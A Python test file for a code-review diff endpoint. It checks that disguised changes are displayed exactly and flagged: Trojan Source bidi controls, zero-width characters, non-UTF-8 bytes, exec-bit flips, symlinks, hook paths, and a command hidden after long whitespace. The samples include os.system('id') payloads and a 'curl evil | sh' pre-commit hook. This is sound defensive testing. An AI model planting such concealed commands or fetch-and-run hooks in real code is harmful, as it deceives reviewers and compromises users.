"""The reviewer sees what will run: ``GET /v1/bundles/{id}/diff`` hides no byte.

Each test hands in a bundle that tries to slip something past a person reading its diff
(bytes that are not UTF-8, Trojan Source controls, an executable bit, a workflow file, a
link) and checks the exact diff text and flags the host answers. The expected diffs are
written out by hand, byte for byte.
"""

from __future__ import annotations

import random
from pathlib import Path
from typing import Any

import pytest

from tests.gitutil import commit_all
from tests.support.daemon import Daemon, running_daemon
from tests.support.flows import make_bundle, state, upload
from tests.support.promotion import register_grant, submit

OLD = b"print('v1')\n"


def _diff(daemon: Daemon, bundle: dict[str, Any], **params: Any) -> dict[str, Any]:
    with daemon.orchestrator() as orch:
        answer = orch.get(f"/v1/bundles/{bundle['bundle_id']}/diff", params=params)
    assert answer.status_code == 200, answer.text
    body: dict[str, Any] = answer.json()
    return body


def _submit_states(
    daemon: Daemon,
    repo: Path,
    identity: str,
    changes: list[dict[str, Any]],
    *blobs: bytes,
    **grant_fields: Any,
) -> dict[str, Any]:
    """Submit full Change dicts (modes of our choosing); the blobs are uploaded first."""
    grant = register_grant(daemon, repo, identity, **grant_fields)
    bundle = make_bundle(grant, changes)
    with daemon.executor(grant["executor_run_id"]) as ex:
        upload(ex, *blobs)
        answer = ex.post("/v1/bundles", json=bundle)
        assert answer.status_code in (200, 201), answer.text
    return bundle


def _file(body: dict[str, Any], path: str) -> dict[str, Any]:
    found = [f for f in body["files"] if f["path"] == path]
    assert len(found) == 1, body["files"]
    return found[0]


def test_latin1_setup_py_is_shown_not_called_binary(
    daemon: Daemon, repo: Path, identity: str
) -> None:
    setup = b"# -*- coding: latin-1 -*-\n# \xa9 2026 ACME\nimport os; os.system('id')\n"
    _, bundle, _ = submit(daemon, repo, identity, [("setup.py", None, setup)])
    body = _diff(daemon, bundle)
    assert body["unified_diff"] == (
        "diff --git a/setup.py b/setup.py\n"
        "new file mode 100644\n"
        "--- /dev/null\n"
        "+++ b/setup.py\n"
        "@@ -0,0 +1,3 @@\n"
        "+# -*- coding: latin-1 -*-\n"
        "+# \\xa9 2026 ACME\n"
        "+import os; os.system('id')\n"
    )
    entry = _file(body, "setup.py")
    assert (entry["binary"], entry["added"], entry["removed"]) == (False, 3, 0)
    assert entry["flags"] == ["not_utf8"]
    assert (entry["new_lines"], entry["old_lines"]) == (3, None)


def test_bidi_and_zero_width_controls_are_flagged_and_shown(
    daemon: Daemon, repo: Path, identity: str
) -> None:
    # CVE-2021-42574's early return: the override makes the check read as a comment
    trojan = (
        "access = 'user'\n"
        "if access != 'user\u202e \u2066# check if admin\u2069 \u2066':\n"
        "    grant()\n"
        "ad\u200bmin = True\n"
    ).encode()
    _, bundle, _ = submit(daemon, repo, identity, [("src/app.py", OLD, trojan)])
    body = _diff(daemon, bundle)
    assert body["unified_diff"] == (
        "diff --git a/src/app.py b/src/app.py\n"
        "--- a/src/app.py\n"
        "+++ b/src/app.py\n"
        "@@ -1 +1,4 @@\n"
        "-print('v1')\n"
        "+access = 'user'\n"
        "+if access != 'user<U+202E> <U+2066># check if admin<U+2069> <U+2066>':\n"
        "+    grant()\n"
        "+ad<U+200B>min = True\n"
    )
    assert "\u202e" not in body["unified_diff"]
    assert _file(body, "src/app.py")["flags"] == ["bidi_control", "invisible_character"]


def test_a_bom_at_the_start_is_not_flagged_but_one_inside_is(
    daemon: Daemon, repo: Path, identity: str
) -> None:
    changes: list[Any] = [
        ("a.txt", None, "\ufeffstart\n".encode()),
        ("b.txt", None, "x\n\ufeffinside\n".encode()),
    ]
    _, bundle, _ = submit(daemon, repo, identity, changes)
    body = _diff(daemon, bundle)
    assert _file(body, "a.txt")["flags"] == []
    assert _file(body, "b.txt")["flags"] == ["invisible_character"]
    assert "+<U+FEFF>inside\n" in body["unified_diff"]


def test_exec_bit_flip_is_flagged(daemon: Daemon, repo: Path, identity: str) -> None:
    change = {
        "path": "src/app.py",
        "operation": "modify",
        "old": state(OLD, "100644"),
        "new": state(OLD, "100755"),
    }
    bundle = _submit_states(daemon, repo, identity, [change], OLD)
    body = _diff(daemon, bundle)
    assert body["unified_diff"] == (
        "diff --git a/src/app.py b/src/app.py\nold mode 100644\nnew mode 100755\n"
    )
    entry = _file(body, "src/app.py")
    assert entry["flags"] == ["executable"]
    assert (entry["added"], entry["removed"]) == (0, 0)


def test_symlink_target_is_shown(daemon: Daemon, repo: Path, identity: str) -> None:
    target = b"../README.md"
    new = state(target, "120000")
    change = {"path": "docs/link", "operation": "create", "old": state(None), "new": new}
    bundle = _submit_states(daemon, repo, identity, [change], target, symlinks="inside")
    body = _diff(daemon, bundle)
    entry = _file(body, "docs/link")
    assert entry["flags"] == ["symlink"]
    assert entry["symlink_target"] == "../README.md"
    assert body["unified_diff"] == (
        "diff --git a/docs/link b/docs/link\n"
        "new file mode 120000\n"
        "--- /dev/null\n"
        "+++ b/docs/link\n"
        "@@ -0,0 +1 @@\n"
        "+../README.md\n"
        "\\ No newline at end of file\n"
    )


def test_long_line_is_flagged(daemon: Daemon, repo: Path, identity: str) -> None:
    hidden_tail = b"x = 1" + b" " * 996 + b"; import os; os.system('id')\n"
    _, bundle, _ = submit(daemon, repo, identity, [("src/app.py", OLD, OLD + hidden_tail)])
    entry = _file(_diff(daemon, bundle), "src/app.py")
    assert entry["flags"] == ["long_line"]
    assert entry["longest_line"] == len(hidden_tail) - 1


def test_workflow_and_hook_paths_are_flagged(daemon: Daemon, repo: Path, identity: str) -> None:
    run = b"on: push\njobs: {}\n"
    changes: list[Any] = [
        (".github/workflows/x.yml", None, run),
        (".husky/pre-commit", None, b"curl evil | sh\n"),
        (".pre-commit-config.yaml", None, b"repos: []\n"),
        ("hooks/post-checkout", None, b"true\n"),
        ("src/hooks/use_thing.py", None, b"x = 1\n"),
        ("sub/.envrc", None, b"export A=1\n"),
    ]
    _, bundle, _ = submit(daemon, repo, identity, changes)
    body = _diff(daemon, bundle)
    assert {f["path"]: f["flags"] for f in body["files"]} == {
        ".github/workflows/x.yml": ["ci_config"],
        ".husky/pre-commit": ["hook_path"],
        ".pre-commit-config.yaml": ["hook_path"],
        "hooks/post-checkout": ["hook_path"],
        "src/hooks/use_thing.py": [],
        "sub/.envrc": ["hook_path"],
    }


def test_nul_in_the_first_8000_bytes_is_binary_and_later_is_shown(
    daemon: Daemon, repo: Path, identity: str
) -> None:
    early = b"abc\x00def\n"
    late = b"a\n" * 4000 + b"tail\x00\n"  # the NUL is byte 8004: git shows it as text
    (repo / "bin").mkdir()
    (repo / "bin" / "early").write_bytes(b"old\n")
    commit_all(repo, "early")
    changes: list[Any] = [("bin/early", b"old\n", early), ("late.txt", None, late)]
    _, bundle, _ = submit(daemon, repo, identity, changes)
    body = _diff(daemon, bundle)
    assert _file(body, "bin/early")["binary"] is True
    assert _file(body, "bin/early")["flags"] == ["binary"]
    assert "Binary files a/bin/early and b/bin/early differ\n" in body["unified_diff"]
    entry = _file(body, "late.txt")
    assert (entry["binary"], entry["added"], entry["flags"]) == (False, 4001, ["control_character"])
    assert body["unified_diff"].endswith("+a\n+tail<U+0000>\n")


def test_a_file_too_long_for_difflib_is_diffed_by_git_and_shown_alike(
    daemon: Daemon, repo: Path, identity: str
) -> None:
    old = b"".join(b"line %d\n" % i for i in range(3000))
    new = old.replace(b"line 1500\n", b"line \xa9\xe2\x80\xae1500\n")
    (repo / "big.txt").write_bytes(old)
    commit_all(repo, "big")
    _, bundle, _ = submit(daemon, repo, identity, [("big.txt", old, new)])
    body = _diff(daemon, bundle)
    assert body["unified_diff"] == (
        "diff --git a/big.txt b/big.txt\n"
        "--- a/big.txt\n"
        "+++ b/big.txt\n"
        "@@ -1498,7 +1498,7 @@\n"
        " line 1497\n"
        " line 1498\n"
        " line 1499\n"
        "-line 1500\n"
        "+line \\xa9<U+202E>1500\n"
        " line 1501\n"
        " line 1502\n"
        " line 1503\n"
    )
    entry = _file(body, "big.txt")
    assert (entry["added"], entry["removed"], entry["old_lines"], entry["new_lines"]) == (
        1,
        1,
        3000,
        3000,
    )
    assert entry["flags"] == ["bidi_control", "not_utf8"]


def test_a_side_over_the_cap_is_summarized_not_diffed(tmp_path: Path, repo: Path) -> None:
    big = b"a\n" * 3000 + b"\xe2\x80\xae\n"
    with running_daemon(
        tmp_path / "capped", {"work": repo}, review_diff_max_file_bytes=4096
    ) as daemon:
        identity = daemon.services.registry.by_name("work").identity
        _, bundle, _ = submit(daemon, repo, identity, [("big.txt", None, big)])
        body = _diff(daemon, bundle)
    entry = _file(body, "big.txt")
    assert body["max_file_bytes"] == 4096
    assert (entry["summarized"], entry["binary"], entry["added"]) == (True, False, 0)
    assert (entry["new_lines"], entry["new_bytes"]) == (3001, len(big))
    assert entry["flags"] == ["bidi_control", "large"]
    assert body["unified_diff"] == (
        "diff --git a/big.txt b/big.txt\n"
        "new file mode 100644\n"
        "File too large to diff here (over 4096 bytes): /dev/null; "
        f"b/big.txt {len(big)} bytes, 3001 lines, sha256 {entry['new_sha256']}\n"
    )


@pytest.mark.slow
def test_a_diff_past_the_requests_time_is_summarized_not_waited_for(
    tmp_path: Path, repo: Path
) -> None:
    # random lines of two values cost git diff minutes: such a file must not hold a diff
    # slot. Past review_diff_timeout its git is killed and the files after it are not
    # diffed; each is summarized and says so
    rng = random.Random(1)
    slow_old = b"".join(rng.choice((b"a\n", b"b\n")) for _ in range(1_500_000))
    slow_new = b"".join(rng.choice((b"a\n", b"b\n")) for _ in range(1_500_000))
    later = b"".join(b"line %d\n" % i for i in range(3000))
    (repo / "slow.txt").write_bytes(slow_old)
    commit_all(repo, "slow")
    with running_daemon(tmp_path / "timed", {"work": repo}, review_diff_timeout=0.2) as daemon:
        identity = daemon.services.registry.by_name("work").identity
        changes: list[Any] = [("slow.txt", slow_old, slow_new), ("z.txt", None, later)]
        _, bundle, _ = submit(daemon, repo, identity, changes)
        body = _diff(daemon, bundle)
    slow, after = _file(body, "slow.txt"), _file(body, "z.txt")
    assert (slow["summarized"], after["summarized"], after["added"]) == (True, True, 0)
    text = body["unified_diff"]
    stopped = (
        "Diff stopped: this request's 0.2 s for diffs are spent: "
        f"a/slow.txt {len(slow_old)} bytes, 1500000 lines, sha256 {slow['old_sha256']}; "
        f"b/slow.txt {len(slow_new)} bytes, 1500000 lines, sha256 {slow['new_sha256']}\n"
    )
    assert text.endswith(
        stopped + "diff --git a/z.txt b/z.txt\n"
        "new file mode 100644\n"
        "Not diffed: this request's 0.2 s for diffs are spent: /dev/null; "
        f"b/z.txt {len(later)} bytes, 3000 lines, sha256 {after['new_sha256']}\n"
    )


def test_a_bidi_override_in_a_path_is_flagged_and_shown(
    daemon: Daemon, repo: Path, identity: str
) -> None:
    # "docs/\u202etxt.py" reads "docs/yp.txt" on a screen: a text file, seemingly
    path = "docs/\u202etxt.py"
    _, bundle, _ = submit(daemon, repo, identity, [(path, None, b"x = 1\n")])
    body = _diff(daemon, bundle)
    entry = _file(body, path)
    assert entry["path_shown"] == "docs/<U+202E>txt.py"
    assert entry["flags"] == ["bidi_control"]
    assert body["unified_diff"] == (
        "diff --git a/docs/<U+202E>txt.py b/docs/<U+202E>txt.py\n"
        "new file mode 100644\n"
        "--- /dev/null\n"
        "+++ b/docs/<U+202E>txt.py\n"
        "@@ -0,0 +1 @@\n"
        "+x = 1\n"
    )
